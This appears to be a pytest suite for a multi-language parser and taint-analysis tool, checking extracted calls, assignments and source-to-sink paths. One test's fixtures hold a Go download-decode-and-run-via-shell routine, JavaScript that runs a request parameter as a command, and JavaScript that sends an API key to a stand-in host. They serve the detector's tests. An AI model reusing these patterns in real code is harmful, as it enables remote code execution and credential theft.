import random
import time

import pytest

from corpusloom.operators import chains, facts, taint
from corpusloom.operators.brackets import Tokens, bracket_facts, shell_facts
from corpusloom.operators.facts import PARSERS, facts_of, name_of
from corpusloom.operators.scan import with_languages


def of(language, text):
    out = {"function": [], "call": [], "assign": [], "import": []}
    refs = {}
    for f in PARSERS[language](text):
        match f["fact"]:
            case "function":
                out["function"].append((f["name"], f["line"], f["line_end"], f["params"]))
            case "call":
                out["call"].append((f["caller"], f["name"], f["line"]))
            case "assign":
                out["assign"].append((f["name"], f["value_call"], f["chain"]))
            case "import":
                out["import"].append(f["name"])
            case "call_ref" | "assign_ref":
                refs.setdefault((f["fact"][:-4], f["seq"]), []).append(f["name"])
    return out, refs


JS = """import { a } from 'b'; // f(no)
/* g(no) */ const text = "h(no)" + 'it\\'s' + /[/"]i(no)/.test(x);
export async function run(one, { two } = {}, ...rest) {
  const line = `ls ${join(one, `${rest}`)} k(no)`;
  return this.shell.exec(line).on('end', done)
}
class C extends D {
  static async get(id) { return fetch(id, { id, key: id.key }) }
  set name(v) { super.set(v); }
}
const each = (x) => x.map(y => go(y)),
  other = function named(z) { z.w = v };
if (a) { b() } else while (c(d)) {}
new Thing(e);
"""


def test_javascript():
    got, refs = of("javascript", JS)
    assert got["function"] == [("run", 3, 6, ["one", "rest"]), ("get", 8, 8, ["id"]), ("name", 9, 9, ["v"]), ("anonymous", 11, 11, []), ("anonymous", 11, 11, []), ("named", 12, 12, ["z"])]
    calls = {(c, n) for c, n, _ in got["call"]}
    assert calls == {("run", "join"), ("run", "this.shell.exec"), ("get", "fetch"), ("name", "super.set"), ("anonymous", "x.map"), ("anonymous", "go"), (None, "b"), (None, "c")}
    assert not any("no" in n for _, n in calls)
    assert got["import"] == ["import { a } from 'b'"]
    assert ("line", "join", "`ls ${join(one, `${rest}`)} k(no)`") in got["assign"] and ("z.w", None, "v") in got["assign"]
    assert ["id", "id", "id"] in refs.values()  # not the key


@pytest.mark.parametrize(
    ("language", "text", "functions", "calls", "assigns"),
    [
        ("go", "package p\nfunc (s *S) Run(a string, b ...int) (x int, err error) {\n\tv, ok := s.m[a](b)\n\tgo func() { s.f(v) }()\n}\n", [("Run", ["a", "b"])], {("Run", "s.m[a]"), ("Run", "s.f")}, {"v", "ok"}),
        ("java", "@A class B { private static List<Map<K, V>> of(final K k, V[] v) throws E { int n = f(k); this.n += g(n); if (x) { h(); } return new B(n); } B(int n) { } }", [("of", ["k", "v"]), ("B", ["n"])], {("of", "f"), ("of", "g"), ("of", "h")}, {"n", "this.n"}),
        ("rust", "use a::b;\npub fn f<'a, T: X>(s: &'a str, n: u8) -> Vec<T> where T: Y { let mut c: char = 'x'; let v = T::new(s).get(&n); m!(c); v }\n", [("f", ["s", "n"])], {("f", "T::new")}, {"c", "v"}),
        ("php", "<p>f(no)</p><?php function f(int $a, $b = 1) { $c = $_GET['x']; $this->db->query(\"no(\" . $c); } ?><b>g(no)</b><?= h($d) ?>", [("f", ["$a", "$b"])], {("f", "$this->db->query"), (None, "h")}, {"$c"}),
        ("c", "#include <a.h>\n#define M(x) f(x)\nstatic int *f(const char *s, int n[]) {\n  for (int i = 0; i < n; i++) { p->q[i] = g(s, h(i)); }\n  return sizeof(x);\n}\nint decl(int);\n", [("f", ["s", "n"])], {("f", "g"), ("f", "h")}, {"i", "p->q[i]"}),
        ("cpp", "namespace a { template <typename T> T B::get(std::string s) const { auto v = std::move(s); return c->d(v); } }\n", [("B::get", ["s"])], {("B::get", "std::move"), ("B::get", "c->d")}, {"v"}),
        ("csharp", "using A;\nclass B { public async Task<int> Run<T>(string a) where T : C { var x = await D.E(a); return x?.F(1); } }", [("Run", ["a"])], {("Run", "D.E"), ("Run", "x?.F")}, {"x"}),
        ("ruby", "def self.a?(b, c = 1)\n  d = e[:f]\n  g d, b if h(d)\n  [1].each do |i|\n    j(i) unless i\n  end\n  k while l\nend\n", [("a?", ["b", "c"])], {("a?", "g"), ("a?", "h"), ("a?", "j")}, {"d"}),
        ("bash", "f() {\n  a=$(b \"$c\")\n  d \"$a\" 'e $no' # g $no\n}\nfunction h { i; }\nf | j && k\n", [("f", []), ("h", [])], {("f", "b"), ("f", "d"), ("h", "i"), (None, "f"), (None, "j"), (None, "k")}, {"a"}),
        ("typescript", "const f = async <T>(a: T): Promise<T> => { const b: C<D> = await a.e<T>(a); return b };\nabstract class G { private h?(i: string | null): void { this.j(i as K) } }", [("anonymous", []), ("h", ["i"])], {("anonymous", "a.e"), ("h", "this.j")}, {"f", "b"}),
    ],
)
def test_languages(language, text, functions, calls, assigns):
    got, refs = of(language, text)
    names = {n for n, *_ in got["function"]}
    for name, params in functions:
        assert name in names and (name == "anonymous" or params in [f[3] for f in got["function"] if f[0] == name])
    found = {(c, n) for c, n, _ in got["call"]}
    assert found == calls
    assert assigns <= {n for n, *_ in got["assign"]}
    assert not any("no" in names for names in refs.values())


def test_what_no_parser_knows_is_an_error_row_and_stops_nothing(spark):
    texts = {
        "links.py": "x = " + "a" + "".join(f".b{i}(c)" for i in range(900)) + "\n",
        "long.py": "x = " + "a" + ".b" * 100_000 + "\n",
        "attributes.py": "f(" + "a" + ".b" * 900 + ")\n",
        "nul.py": "x = 1\0\n",
        "digits.py": "f(" + "9" * 10_000 + ")()\n",
        "deep.js": "f(" * 100_000,
        "open.go": "func f() { g(" + "`" + "x" * 1_000,
        "odd.rb": "end\nend\ndef\n",
        "odd.java": "class { ( ] } ) => \0 ퟿",
        "odd.sh": "'\n\"$(`",
        "fine.py": "f(1)\n",
    }
    files = with_languages(spark.createDataFrame(list(texts.items()), "path string, content string"))
    found = facts.syntax_facts(files)
    errors = {r.path for r in facts.errors(found).collect()}
    assert {"nul.py", "deep.js"} <= errors and not errors & {"fine.py", "links.py", "attributes.py", "open.go", "odd.rb", "odd.java", "odd.sh"}
    calls = {r.path: r.name for r in found.where("fact = 'call' and path in ('links.py', 'fine.py')").collect()}
    assert calls == {"links.py": "a" + "".join(f".b{i}" for i in range(900)), "fine.py": "f"}


def test_names_of_any_length():
    import ast

    node = ast.Name("a")
    for _ in range(100_000):
        node = ast.Attribute(node, "b")
    assert name_of(node) == "a" + ".b" * 100_000


@pytest.mark.parametrize("language", sorted(set(PARSERS) - {"python"}))
def test_random_texts_cost_their_length(language):
    """Nothing raises but what is foreseen, and twice the text takes about twice the time."""
    rng = random.Random(3)
    parts = ["f(", ")", "{", "}", "[", "]", " a ", " b", "=", " := ", ",", ";", "\n", "'", '"', "`", "${", "//", "#", "/*", "*/", ".", "::", "->", "=>", " function ", " def ", " end ", " do ", " if ", " fn ", " func ", "<", ">", " x", "$1", "$(", "\\"]
    for _ in range(150):
        text = "".join(rng.choices(parts, k=60))
        try:
            list(PARSERS[language](text))
        except ValueError as e:
            assert "nested" in str(e)
    for unit in ("a = f(b, c).d[e];\n", "x => ", "f(a) ", "a, ", "a < ", "function ", "def f ", "a = ", "{}", "`${a}", "a: ", "if ", "f() { ", "$(a) ", "'a' "):
        took = []
        for n in (1_000, 8_000):
            began = time.process_time()
            try:
                list(PARSERS[language](unit * n))
            except ValueError:
                pass
            took.append(time.process_time() - began)
        assert took[1] < 0.3 + 24 * took[0], unit


def test_tokens_keep_lines_and_brackets():
    t = Tokens("a(\n`x\n${b({})}\ny`,\n[c])\nd", "javascript")
    assert [(t.text[i], t.line[i]) for i in range(len(t.text)) if t.kind[i] == 0] == [("a", 1), ("b", 3), ("c", 5), ("d", 6)]
    assert all(t.text[z] in ")]}" for i, z in enumerate(t.close) if z >= 0)


GO = 'package main\n\nfunc load() error {\n\tresp, err := http.Get("https://files.invalid/p")\n\tif err != nil {\n\t\treturn err\n\t}\n\tbody, _ := io.ReadAll(resp.Body)\n\ttext, _ := base64.StdEncoding.DecodeString(string(body))\n\tcmd := exec.Command("sh", "-c", string(text))\n\treturn cmd.Run()\n}\n\nfunc ping(host string) {\n\texec.Command("ping", host)\n}\n'
LEAK = "function load(req) {\n  const cmd = req.query.cmd;\n  exec(cmd);\n}\nfunction leak() {\n  const apiKey = process.env.API_KEY;\n  fetch('https://collect.invalid', {\n    body: JSON.stringify({ apiKey }),\n  });\n}\nfunction config() {\n  const c = fs.readFileSync('c.json');\n  return JSON.parse(c);\n}\n"


def test_taint_and_chains_by_syntax(spark):
    files = with_languages(spark.createDataFrame([("a.go", GO), ("b.js", LEAK)], "path string, content string"))
    found = facts.syntax_facts(files)
    paths = taint.syntax_paths(found, files)
    rows = {(r.path, r.source_var, r.source_kind, r.source_line, r.sink_name, r.sink_kind, r.sink_line, r.confidence) for r in paths.collect()}
    assert rows == {
        ("a.go", "resp", "network_recv", 4, "exec.Command", "command_exec", 10, 0.85),
        ("b.js", "cmd", "http_param", 2, "exec", "command_exec", 3, 0.85),
        ("b.js", "apiKey", "env_read", 6, "fetch", "network_send", 7, 0.85),
    }
    got = {(r.path, r.chain_name, r.summary.split("\n")[1]) for r in chains.chains(paths, files).collect()}
    assert got == {("a.go", "Download & Execute", "line 4 -> line 10"), ("b.js", "Credential Theft & Exfil", "line 6 -> line 7")}


def test_python_and_brackets_agree_on_what_both_can_read():
    """The same calls and assignments in both notations."""
    lines = ["a = f(b)", "c = a.d", "g(a, h(c), k)", "m.n(o)"]
    both = [sorted((x["fact"], x.get("name"), x.get("value_call"), x.get("line")) for x in r if x["fact"] != "import") for r in (facts_of("\n".join(lines)), bracket_facts(";\n".join(lines), "javascript"))]
    assert both[0] == both[1]


def test_shell_words():
    rows = [f for f in shell_facts("X=1 Y=$X z \"$Y\"\nif a; then b; fi\n. ./c\n")]
    assert [(f["name"]) for f in rows if f["fact"] == "call"] == ["z", "a", "b", "."]
    assert [(f["name"], f["chain"]) for f in rows if f["fact"] == "assign"] == [("X", "1"), ("Y", "$X")]
